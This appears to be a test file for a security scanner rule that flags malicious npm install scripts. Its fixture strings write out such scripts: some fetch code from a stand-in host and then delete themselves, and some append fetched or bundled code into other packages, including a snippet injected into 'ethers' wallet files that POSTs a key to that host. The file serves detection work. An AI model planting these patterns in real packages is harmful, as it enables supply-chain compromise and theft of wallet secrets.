import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../remote-code.rule.js';

const at = (text: string, path: string, scripts: Record<string, string>) => findingsOf(rule, { [path]: text }, { original: { scripts } })[0]?.severity ?? 'nothing';
const installed = (text: string, path = 'setup.js') => at(text, path, { postinstall: `node ${path}` });
const ASKS = 'fetch("https://s.example.org/k").then((answer) => answer.text()).then((text) => keep(text));';

test('bad: a script that asks a server when it is installed removes itself, or puts another manifest in place', () => {
  for (const code of [
    `const fs = require("fs"); ${ASKS} fs.unlinkSync(__filename);`,
    `const fs = require("fs"), path = require("path"); ${ASKS} fs.rmSync(path.join(__dirname, "setup.js"), { force: true });`,
    `${ASKS} require("fs").unlinkSync(__filename);`,
    `const { rename, rm } = require("fs/promises"), { join } = require("path"); const own = __filename; ${ASKS} rm(own);`,
    `const fs = require("fs"), path = require("path"); ${ASKS} fs.renameSync(path.join(__dirname, "package.md"), path.join(__dirname, "package.json"));`,
  ]) assert.equal(installed(code), 'high', code);
  assert.equal(installed(`import { unlink } from "node:fs/promises"; import { fileURLToPath } from "node:url"; const own = fileURLToPath(import.meta.url); ${ASKS} await unlink(own);`, 'setup.mjs'), 'high');
  const files = { 'setup.js': 'require("./lib/clean")();', 'lib/clean.js': `const fs = require("fs"), path = require("path"); module.exports = () => { ${ASKS} fs.unlinkSync(path.join(__dirname, "..", "setup.js")) }` };
  assert.deepEqual(findingsOf(rule, files, { original: { scripts: { install: 'node setup.js' } } }).map(({ severity, file }) => `${severity} ${file}`), ['high lib/clean.js']);
});

test('bad: what a server answered becomes a part of a script', () => {
  for (const code of [
    'const fs = require("fs"), path = require("path"); fetch("https://s.example.org/k").then((answer) => answer.text()).then((text) => { const file = path.join(root, "ethers", "lib", "provider.js"); fs.writeFileSync(file, fs.readFileSync(file, "utf8") + "\\n" + text) });',
    'const fs = require("fs"); const entry = require.resolve("lodash"); fetch("https://s.example.org/k").then((answer) => answer.text()).then((text) => fs.appendFileSync(entry, text));',
  ]) assert.equal(installed(code), 'high', code);
});

test('good: templates that tidy up, data that is downloaded, patches of the own, and scripts that nothing starts', () => {
  for (const code of [
    'const fs = require("fs"); fs.writeFileSync("package.json", JSON.stringify(settings)); fs.unlinkSync(__filename);',
    'const fs = require("fs"); fetch("https://s.example.org/k").then((answer) => answer.text()).then((text) => fs.writeFileSync("table.json", text)); fs.rmSync("old.json");',
    'const fs = require("fs"); const entry = require.resolve("metro"); fs.writeFileSync(entry, fs.readFileSync(entry, "utf8").replace("a", "b"));',
    `const fs = require("fs"); ${ASKS} fs.copyFileSync(__dirname + "/default.json", process.env.INIT_CWD + "/my.json");`,
  ]) assert.equal(installed(code), 'nothing', code);
  assert.equal(at(`const fs = require("fs"); ${ASKS} fs.unlinkSync(__filename);`, 'setup.js', { start: 'node setup.js' }), 'nothing');
});

test('bad: code of the package that sends something becomes a part of a script of another package', () => {
  const files = { 'tools/more.tpl': 'try { fetch("https://s.example.org/k", { method: "POST", body: key }) } catch (e) {}' };
  const of = (text: string, name = 'demo') => findingsOf(rule, { ...files, 'tools/setup.js': `const fs = require("fs"), path = require("path"); ${text}` }, { name, original: { scripts: { postinstall: 'node tools/setup.js' } } })[0]?.severity ?? 'nothing';
  const more = 'const more = fs.readFileSync(path.join(__dirname, "more.tpl"), "utf8");';
  for (const code of [
    `const root = path.resolve(__dirname, "..", ".."); ${more} for (const each of ["ethers/lib/wallet.js", "ethers/wallet.js"]) { const file = path.join(root, each); fs.writeFileSync(file, fs.readFileSync(file, "utf8").replace("{", (all) => all + more)) }`,
    `${more} fs.appendFileSync(require.resolve("ethers"), more)`,
    `${more} fs.appendFileSync(path.join(path.dirname(require.resolve("ethers/package.json")), "lib/wallet.js"), more)`,
    `${more} fs.appendFileSync(path.join(process.env.INIT_CWD, "node_modules", "ethers", "wallet.js"), more)`,
    `${more} fs.appendFileSync(path.join(path.dirname(__filename), "../../ethers/wallet.js"), more)`,
    'fs.copyFileSync(path.join(__dirname, "more.tpl"), path.join(__dirname, "../../ethers/wallet.js"))',
    'fs.appendFileSync(require.resolve("ethers"), "\\n;fetch(\\"https://s.example.org/k\\", { method: \\"POST\\", body: key })")',
  ]) assert.equal(of(code), 'high', code);
  const three = `${more} fs.appendFileSync(path.join(__dirname, "../../../ethers/wallet.js"), more)`;
  assert.deepEqual([of(three, '@demo/demo'), of(three)], ['high', 'nothing'], 'above the folder of packages lies the project');
  for (const code of [
    `${more} fs.appendFileSync(path.join(__dirname, "..", "dist", "wallet.js"), more)`,
    `${more} fs.writeFileSync(path.join(process.env.INIT_CWD, "public", "worker.js"), more)`,
    'const file = require.resolve("metro"); fs.writeFileSync(file, fs.readFileSync(file, "utf8").replace("a", "b"))',
    'const file = require.resolve("metro"); fs.appendFileSync(file, fs.readFileSync(path.join(__dirname, "patch.txt"), "utf8"))',
    'const { send } = require("./more.tpl"); fs.appendFileSync(require.resolve("metro"), "b"); send()',
  ]) assert.equal(of(code), 'nothing', code);
});
